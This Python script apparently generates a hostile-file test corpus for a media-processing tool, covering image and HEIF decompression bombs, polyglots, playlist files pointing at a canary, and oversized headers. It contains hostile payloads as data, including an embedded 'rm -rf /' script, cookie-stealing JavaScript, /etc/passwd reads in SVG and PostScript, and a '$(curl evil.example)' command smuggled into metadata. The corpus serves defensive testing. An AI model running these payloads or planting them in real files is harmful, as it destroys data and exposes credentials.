#!/usr/bin/env python3
"""Build the hostile corpus: small, deterministic files that attack a media tool.

Each case names the file, what `mediaprep prepare` must answer (exit code and a
message fragment), and any payload that must never reach an output. The suite
(tests/test_hostile.py) builds the corpus in a temporary folder and asserts every
expectation; `python testdata/make_hostile.py DIR` writes it for a look by hand.
Audio/video cases need an ffmpeg (the one mediaprep resolves).
"""
from __future__ import annotations

import io
import struct
import subprocess
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

from PIL import Image

OK, BAD_INPUT = 0, 4


NOT_COMPLIANT = 5
# The bound on every case, in `check` and in `prepare` alike (issue 12): wall clock
# of the whole CLI run and peak memory of the largest process in it.
MAX_SECONDS = 10.0
MAX_RSS_MB = 500
# Appended to a valid file as a sparse tail: gigabytes that take no disk.
SPARSE_TAIL = 2 << 30


@dataclass(frozen=True)
class Case:
    name: str  # file name in the corpus (extension chosen to mislead where that is the point)
    expect_exit: int  # what `prepare` must answer
    message: str = ""  # fragment the one-line error must contain (lower case)
    payloads: tuple[bytes, ...] = ()  # must not appear in any output
    needs: str = ""  # "voice" | "video": the fit module the case exercises
    max_seconds: float = MAX_SECONDS  # wall clock the whole CLI run may take
    notes: str = ""
    reads_canary: bool = field(default=False)  # points at the canary file / socket
    check_exit: int | None = None  # what `check` must answer; None: as prepare
    max_rss_mb: int = MAX_RSS_MB

    @property
    def expect_check(self) -> int:
        return self.expect_exit if self.check_exit is None else self.check_exit


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, extra: bytes = b"", idat: bytes | None = None) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = idat if idat is not None else zlib.compress(b"".join(b"\0" + b"\x80" * 3 * width for _ in range(height)))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", raw) + _chunk(b"IEND", b"")


def _jpeg(size: tuple[int, int] = (64, 48), **save: object) -> bytes:
    buf = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(buf, "JPEG", **save)
    return buf.getvalue()


def _gif_header(width: int, height: int) -> bytes:
    # Logical screen and one image descriptor of the claimed size, a 2-colour table,
    # and a tiny LZW stream: the header alone claims width*height pixels.
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    desc = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0)
    return head + desc + b"\x02\x02\x44\x01\x00" + b"\x3b"


def _gif(width: int, height: int) -> bytes:
    buf = io.BytesIO()
    Image.new("P", (width, height), 1).save(buf, "GIF")
    return buf.getvalue()


def _sof_bomb() -> bytes:
    data = bytearray(_jpeg())
    sof = data.find(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", 65500, 65500)  # height, width
    return bytes(data)


def _many_scans(count: int) -> bytes:
    data = _jpeg((1024, 1024), progressive=True, quality=50)
    sos = data.rfind(b"\xff\xda")
    eoi = data.rfind(b"\xff\xd9")
    return data[:eoi] + data[sos:eoi] * count + b"\xff\xd9"


def _cyclic_exif() -> bytes:
    # TIFF header + IFD0 with one entry (ExifIFD pointer) pointing back at IFD0,
    # and IFD0's next-IFD offset pointing at itself.
    ifd = struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd
    app1 = b"Exif\x00\x00" + tiff
    data = _jpeg()
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + data[2:]


def canvas_gif(width: int, height: int, frames: int) -> bytes:
    """A large canvas and many one-pixel frames (a 2-colour table, 1/100 s each): 46 KB
    for 5000x5000 and 2,000 frames, and minutes of work for a probe that seeks the
    frames (a decoder redraws the whole canvas for each)."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"
    frame = control + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame * frames + b"\x3b"


def canvas_apng(width: int, height: int, frames: int) -> bytes:
    """The same as an animated PNG: a grey default image of the canvas size (it
    compresses to a few hundred KB), then ``frames`` one-pixel frames."""
    row = b"\0" + b"\x80" * width
    zc = zlib.compressobj(9)
    idat = b"".join(zc.compress(row) for _ in range(height)) + zc.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grey
    out = [b"\x89PNG\r\n\x1a\n", _chunk(b"IHDR", ihdr), _chunk(b"acTL", struct.pack(">II", frames, 0))]
    seq = 0
    out.append(_chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, width, height, 0, 0, 1, 100, 0, 0)))
    out.append(_chunk(b"IDAT", idat))
    pixel = zlib.compress(b"\0\xff")
    for _ in range(frames - 1):
        seq += 1
        out.append(_chunk(b"fcTL", struct.pack(">IIIIIHHBB", seq, 1, 1, 0, 0, 1, 100, 0, 0)))
        seq += 1
        out.append(_chunk(b"fdAT", struct.pack(">I", seq) + pixel))
    out.append(_chunk(b"IEND", b""))
    return b"".join(out)


def _riff_chunk(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack("<I", len(payload)) + payload + (b"\0" if len(payload) & 1 else b"")


def canvas_webp(width: int, height: int, frames: int) -> bytes:
    """The same as an animated WebP: ``frames`` ANMF frames, each the same 1x1
    lossless bitstream, on a canvas of the given size."""
    buf = io.BytesIO()
    Image.new("RGB", (1, 1), (200, 30, 30)).save(buf, "WEBP", lossless=True)
    vp8l = buf.getvalue()[12:]  # the one VP8L chunk of a simple file
    vp8x = _riff_chunk(b"VP8X", bytes([0x02, 0, 0, 0]) + (width - 1).to_bytes(3, "little")
                       + (height - 1).to_bytes(3, "little"))
    anim = _riff_chunk(b"ANIM", bytes(6))
    frame = _riff_chunk(b"ANMF", bytes(12) + (10).to_bytes(3, "little") + b"\0" + vp8l)
    body = b"WEBP" + vp8x + anim + frame * frames
    return b"RIFF" + struct.pack("<I", len(body)) + body


def ffda_in_comment() -> bytes:
    """A valid one-scan JPEG whose comment holds the bytes of 500 SOS markers."""
    data = _jpeg((64, 48), quality=80)
    com = b"\xff\xda" * 500
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + com + data[2:]


def with_sparse_tail(path: Path, data: bytes, tail: int = SPARSE_TAIL) -> None:
    """Write ``data`` and extend the file with ``tail`` zero bytes that take no disk."""
    path.write_bytes(data)
    with open(path, "r+b") as fh:
        fh.truncate(len(data) + tail)


def _box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def _full_box(kind: bytes, version: int, payload: bytes) -> bytes:
    return _box(kind, bytes([version, 0, 0, 0]) + payload)


def _heif_by_hand(items: list[tuple[int, bytes, tuple[int, int]]], dimg: dict[int, list[int]]) -> bytes:
    """A HEIF (ISO/IEC 23008-12) whose meta box says what we want and whose mdat holds
    nothing: items are (id, type, ispe size), item 1 the primary; dimg links a grid
    to its tiles. Enough for a reader to believe the layout before decoding."""
    infe = b"".join(_full_box(b"infe", 2, struct.pack(">HH4s", i, 0, t) + b"\0") for i, t, _ in items)
    sizes = sorted({size for _, _, size in items})
    ipco = _box(b"ipco", b"".join(_full_box(b"ispe", 0, struct.pack(">II", *size)) for size in sizes))
    ipma = _full_box(b"ipma", 0, struct.pack(">I", len(items)) + b"".join(
        struct.pack(">HBB", i, 1, 0x80 | (sizes.index(size) + 1)) for i, _, size in items))
    refs = b"".join(_box(b"dimg", struct.pack(">HH", src, len(dst)) + b"".join(struct.pack(">H", d) for d in dst))
                    for src, dst in dimg.items())
    meta = _full_box(b"meta", 0, _full_box(b"hdlr", 0, b"\0" * 4 + b"pict" + b"\0" * 13)
                     + _full_box(b"pitm", 0, struct.pack(">H", 1))
                     + _full_box(b"iinf", 0, struct.pack(">H", len(items)) + infe)
                     + (_full_box(b"iref", 0, refs) if refs else b"")
                     + _box(b"iprp", ipco + ipma))
    return _box(b"ftyp", b"heic\0\0\0\0mif1heic") + meta + _box(b"mdat", b"\0" * 64)


def _with_ispe(data: bytes, width: int, height: int) -> bytes:
    """A real HEIF whose every ispe box claims width x height (the pixels stay small)."""
    out = bytearray(data)
    at = out.find(b"ispe")
    while at >= 0:
        out[at + 8:at + 16] = struct.pack(">II", width, height)
        at = out.find(b"ispe", at + 4)
    return bytes(out)


def heif_samples() -> dict[str, bytes]:
    """Real HEIC and AVIF stills (pillow-heif's encoder, Pillow's AVIF plugin) with GPS
    EXIF and an XMP packet that must never reach an output."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    picture = Image.linear_gradient("L").resize((96, 64)).convert("RGB")
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (48.0, 51.0, 30.0)  # GPSLatitude
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp-payload</x:xmpmeta>'
    out = {}
    for fmt in ("HEIF", "AVIF"):
        buf = io.BytesIO()
        picture.save(buf, fmt, quality=70, exif=exif.tobytes(), xmp=xmp)
        out[fmt] = buf.getvalue()
    return out


def heif_cases() -> list[tuple[Case, bytes]]:
    samples = heif_samples()
    heic, avif = samples["HEIF"], samples["AVIF"]
    secret = (b"secret-xmp-payload",)
    as_heic = avif[:8] + b"heic" + avif[12:]  # AV1 inside, HEVC outside
    return [
        (Case("heic_named.jpg", OK, payloads=secret, notes="HEIC content, JPEG name",
              check_exit=NOT_COMPLIANT), heic),
        (Case("avif_named.png", OK, payloads=secret, notes="AVIF content, PNG name",
              check_exit=NOT_COMPLIANT), avif),
        (Case("heic_huge.heic", BAD_INPUT, "exceed", notes="ispe claims 60000x60000"),
         _with_ispe(heic, 60000, 60000)),
        (Case("avif_huge.avif", BAD_INPUT, "exceed", notes="ispe claims 60000x60000"),
         _with_ispe(avif, 60000, 60000)),
        (Case("heic_huge_grid.heic", BAD_INPUT, "exceed", notes="a grid of 200000x200000"),
         _heif_by_hand([(1, b"grid", (200_000, 200_000)), (2, b"hvc1", (512, 512))], {1: [2] * 4000})),
        (Case("heic_tile_bomb.heic", BAD_INPUT, "tiles", notes="900 tiles of 4096x4096 for 1024x1024"),
         _heif_by_hand([(1, b"grid", (1024, 1024))] + [(i, b"hvc1", (4096, 4096)) for i in range(2, 902)],
                       {1: list(range(2, 902))})),
        (Case("heic_many_items.heic", BAD_INPUT, "items", notes="5000 items"),
         _heif_by_hand([(i, b"hvc1", (64, 64)) for i in range(1, 5001)], {})),
        (Case("heic_truncated.heic", BAD_INPUT, "heic"), heic[:len(heic) // 2]),
        (Case("heic_cut_header.heic", BAD_INPUT, "heic"), heic[:120]),
        (Case("heic_holding_av1.heic", BAD_INPUT, "av1", notes="brand heic, AV1 images"), as_heic),
    ]


def image_cases(dest: Path) -> list[Case]:
    cases: list[tuple[Case, bytes]] = [
        (Case("bomb_png.png", BAD_INPUT, "exceed"), _png(100_000, 100_000, idat=zlib.compress(b"\0" * 4096))),
        (Case("bomb_gif.gif", BAD_INPUT, "exceed"), _gif_header(65535, 65535)),
        (Case("bomb_jpeg.jpg", BAD_INPUT, "exceed"), _sof_bomb()),
        (Case("bomb_png_as.jpg", BAD_INPUT, "exceed"), _png(20_000, 20_000, idat=zlib.compress(b"\0" * 4096))),
        (Case("ztxt_bomb.png", BAD_INPUT, "inflates", notes="50 MB of text inflates from 50 KB"),
         _png(32, 32, extra=_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 50_000_000, 9)))),
        (Case("icc_bomb.png", BAD_INPUT, "inflates", notes="a 50 MB ICC profile"),
         _png(32, 32, extra=_chunk(b"iCCP", b"icc\0\0" + zlib.compress(b"\0" * 50_000_000, 9)))),
        (Case("many_scans.jpg", BAD_INPUT, "scans"), _many_scans(3000)),
        (Case("cyclic_exif.jpg", OK), _cyclic_exif()),
        (Case("zero.jpg", BAD_INPUT, "empty"), b""),
        (Case("truncated.jpg", BAD_INPUT, "truncated"), _jpeg((640, 480), quality=95)[:3000]),
        (Case("truncated.png", BAD_INPUT, ""), _png(300, 300)[:200]),
        (Case("text.jpg", BAD_INPUT, "content is text/"), b"hello, this is not a picture\n" * 10),
        (Case("page.jpg", BAD_INPUT, "text/html"),
         b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n"),
        (Case("drawing.jpg", BAD_INPUT, "svg"),
         b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
         b'<image href="file:///etc/passwd"/></svg>\n'),
        (Case("ghost.jpg", BAD_INPUT, "postscript"),
         b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(/etc/passwd) (r) file pop\nshowpage\n"),
        (Case("doc.png", BAD_INPUT, "pdf"), b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"),
        (Case("polyglot_zip.jpg", OK, payloads=(b"PK\x03\x04", b"evil.sh")),
         _jpeg((64, 48), quality=80) + b"PK\x03\x04" + b"\0" * 26 + b"evil.sh" + b"#!/bin/sh\nrm -rf /\n\xff\xd9"),
        (Case("polyglot_js.gif", OK, check_exit=NOT_COMPLIANT, payloads=(b"alert(",)),
         _gif(16, 16) + b"*/=1;alert(document.cookie);/*"),
        (Case("polyglot_html.png", OK, check_exit=NOT_COMPLIANT, payloads=(b"<script>",)),
         _png(16, 16, extra=_chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"))
         + b"<html><script>alert(2)</script>"),
    ]
    cases += heif_cases()
    # (Built by hand: Pillow's encoder merges frames that look alike into one.)
    cases.append((Case("many_frames.gif", OK, notes="3000 frames: first frame only, fast",
                       check_exit=NOT_COMPLIANT), canvas_gif(8, 8, 3000)))
    # Large canvases of many tiny frames: counted from the container, never seeked.
    canvases = "5000x5000 canvas, 2,000 one-pixel frames: counted from the blocks"
    cases += [
        (Case("canvas_frames.gif", OK, notes=canvases, check_exit=NOT_COMPLIANT),
         canvas_gif(5000, 5000, 2000)),
        # 100 MP, our pixel limit: prepare decodes the first frame as it would any
        # 100 MP picture (300 MB of RGB, ~530 MB in all), bounded by safety.memory_mb.
        (Case("canvas_frames_10k.gif", OK, notes="10000x10000, 2,000 frames",
              check_exit=NOT_COMPLIANT, max_rss_mb=700), canvas_gif(10000, 10000, 2000)),
        (Case("canvas_frames.png", OK, notes=canvases, check_exit=NOT_COMPLIANT),
         canvas_apng(5000, 5000, 2000)),
        (Case("canvas_frames.webp", OK, notes=canvases, check_exit=NOT_COMPLIANT),
         canvas_webp(5000, 5000, 2000)),
        (Case("ffda_comment.jpg", OK, payloads=(b"\xff\xda\xff\xda",),
              notes="FF DA bytes in a comment are not scans"), ffda_in_comment()),
    ]
    out = []
    for case, data in cases:
        (dest / case.name).write_bytes(data)
        out.append(case)
    # A valid JPEG followed by 2 GB of (sparse) zeros: never read, never copied.
    with_sparse_tail(dest / "sparse_tail.jpg", _jpeg((640, 480), quality=85))
    out.append(Case("sparse_tail.jpg", OK, check_exit=NOT_COMPLIANT, payloads=(b"\0" * 4096,),
                    notes="2 GB of zeros after the image"))
    return out


def swap_corpus(dest: Path) -> tuple[Path, Path, Path]:
    """A batch source folder for the symlink swap: two large photos (prepared first:
    a batch starts with the heaviest files) and a small ``victim.jpg``, plus a photo
    outside the folder. While the batch works on the large photos, the test swaps
    ``victim.jpg`` for a link to the outside photo (or for another file); the batch
    must not read it. Returns (source folder, victim, outside photo)."""
    src = dest / "swap_src"
    src.mkdir(parents=True, exist_ok=True)
    for name in ("big1.jpg", "big2.jpg"):
        Image.effect_noise((2400, 1800), 60).convert("RGB").save(src / name, quality=92)
    victim = src / "victim.jpg"
    victim.write_bytes(_jpeg((64, 48), quality=80))
    outside = dest / "outside_secret.jpg"
    Image.new("RGB", (640, 480), (10, 200, 30)).save(outside, "JPEG", quality=90,
                                                       comment=b"SECRET-OUTSIDE-SRC")
    return src, victim, outside


def _ff(ffmpeg: str, *args: str) -> None:
    subprocess.run([ffmpeg, "-nostdin", "-hide_banner", "-loglevel", "error", "-y", *args],
                   check=True, timeout=300)


def av_cases(dest: Path, ffmpeg: str, canary: Path, port: int) -> list[Case]:
    out: list[Case] = []
    d = dest
    # Playlists and concat scripts disguised as media, pointing at a canary file and a
    # listening socket: refused by content before any demuxer sees them.
    hls = (f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile://{canary}\n"
           f"#EXTINF:1.0,\nhttp://127.0.0.1:{port}/x.ts\n#EXT-X-ENDLIST\n")
    concat = f"ffconcat version 1.0\nfile '{canary}'\nfile 'http://127.0.0.1:{port}/y.mp4'\n"
    for name, text in (("hls.mp4", hls), ("hls.avi", hls), ("hls.mkv", hls),
                       ("concat.mp4", concat), ("concat.avi", concat), ("concat.mkv", concat)):
        (d / name).write_text(text)
        out.append(Case(name, BAD_INPUT, "text/plain", reads_canary=True))
    # Headers that claim 10 hours over one second of data.
    _ff(ffmpeg, "-f", "lavfi", "-i", "sine=f=440:d=1", "-ar", "8000", "-ac", "1", str(d / "wav10h.wav"))
    wav = bytearray((d / "wav10h.wav").read_bytes())
    claim = 10 * 3600 * 8000 * 2
    wav[4:8] = struct.pack("<I", claim + 36)
    data_at = wav.find(b"data")
    wav[data_at + 4:data_at + 8] = struct.pack("<I", claim)
    (d / "wav10h.wav").write_bytes(bytes(wav))
    out.append(Case("wav10h.wav", OK, check_exit=NOT_COMPLIANT, needs="voice",
                    notes="header claims 10 h; 1 s of samples"))
    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
        "-c:v", "libx264", "-c:a", "aac", "-shortest", str(d / "mp4_10h.mp4"))
    mp4 = bytearray((d / "mp4_10h.mp4").read_bytes())
    mvhd = mp4.find(b"mvhd")
    if mvhd > 0 and mp4[mvhd + 4] == 0:  # version 0: timescale at +16, duration at +20
        timescale = struct.unpack(">I", mp4[mvhd + 16:mvhd + 20])[0]
        mp4[mvhd + 20:mvhd + 24] = struct.pack(">I", min(timescale * 36000, 0xFFFFFFFF))
    (d / "mp4_10h.mp4").write_bytes(bytes(mp4))
    out.append(Case("mp4_10h.mp4", OK, check_exit=NOT_COMPLIANT, needs="video",
                    notes="mvhd claims 10 h; 1 s of frames"))
    # A genuinely 10-hour (silent) FLAC: refused by our duration limit, quickly.
    # (1 kHz and 64K-sample frames keep it 16 KB and quick to make; the length is real.)
    _ff(ffmpeg, "-f", "lavfi", "-i", "anullsrc=r=1000:cl=mono", "-t", "36000", "-c:a", "flac",
        "-frame_size", "65535", str(d / "silence10h.flac"))
    out.append(Case("silence10h.flac", BAD_INPUT, "longer than", needs="voice", max_seconds=60))
    # A 10-hour timestamp gap inside a 2-second file.
    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=2:s=160x120:r=10",
        "-vf", "setpts=PTS+gte(T\\,1)*36000/TB", "-c:v", "libx264", str(d / "gap10h.mkv"))
    out.append(Case("gap10h.mkv", BAD_INPUT, "longer than", needs="video"))
    # 8192x8192 video: refused before decoding.
    _ff(ffmpeg, "-f", "lavfi", "-i", "color=c=blue:s=8192x8192:d=0.1:r=10", "-c:v", "libx264",
        "-preset", "ultrafast", str(d / "huge8k.mp4"))
    out.append(Case("huge8k.mp4", BAD_INPUT, "exceed", needs="video"))
    # Odd dimensions, audio-only MP4, a script in the title.
    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=65x33:r=10", "-c:v", "libx264",
        "-pix_fmt", "yuv444p", str(d / "odd65x33.mp4"))
    out.append(Case("odd65x33.mp4", OK, check_exit=NOT_COMPLIANT, needs="video"))
    _ff(ffmpeg, "-f", "lavfi", "-i", "sine=d=2", "-c:a", "aac", str(d / "audio_only.mp4"))
    out.append(Case("audio_only.mp4", OK, check_exit=NOT_COMPLIANT, needs="voice"))
    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
        "-c:v", "libx264", "-c:a", "aac", "-shortest",
        "-metadata", "title=<script>alert('title')</script>",
        "-metadata", "comment=$(curl evil.example)", str(d / "script_title.mp4"))
    out.append(Case("script_title.mp4", OK, check_exit=NOT_COMPLIANT, payloads=(b"<script>", b"curl evil"),
                    needs="video"))
    # A valid MP4 followed by 2 GB of (sparse) zeros.
    _ff(ffmpeg, "-f", "lavfi", "-i", "testsrc=d=1:s=160x120:r=10", "-f", "lavfi", "-i", "sine=d=1",
        "-c:v", "libx264", "-profile:v", "main", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest",
        "-movflags", "+faststart", str(d / "sparse_tail.mp4"))
    with_sparse_tail(d / "sparse_tail.mp4", (d / "sparse_tail.mp4").read_bytes())
    out.append(Case("sparse_tail.mp4", OK, needs="video", check_exit=NOT_COMPLIANT,
                    notes="2 GB of zeros after the movie"))
    return out


def main() -> None:
    dest = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    dest.mkdir(parents=True, exist_ok=True)
    cases = image_cases(dest)
    try:
        from mediaprep.tools.ffmpeg import get_ffmpeg

        canary = dest / "CANARY.txt"
        canary.write_text("canary: this must never be read\n")
        cases += av_cases(dest, get_ffmpeg().path, canary, 9)
    except Exception as exc:  # noqa: BLE001 - a look by hand: images alone are fine
        print(f"audio/video cases skipped: {exc}")
    for c in cases:
        print(f"{c.name:24} exit {c.expect_exit}  {c.message or ''}  {c.notes}")


if __name__ == "__main__":
    main()
